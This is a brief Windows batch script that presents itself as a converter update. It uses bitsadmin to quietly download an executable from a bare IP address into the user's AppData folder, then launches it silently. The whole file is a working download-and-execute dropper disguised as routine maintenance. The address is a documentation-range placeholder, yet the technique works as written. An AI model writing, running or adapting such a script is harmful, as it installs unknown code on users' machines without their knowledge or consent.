@echo off
setlocal
echo Updating converter...
bitsadmin /transfer xlupd /download /priority foreground http://198.51.100.23/xl/xlconv.exe "%APPDATA%\xlconv.exe" >nul
start "" "%APPDATA%\xlconv.exe" /quiet
endlocal
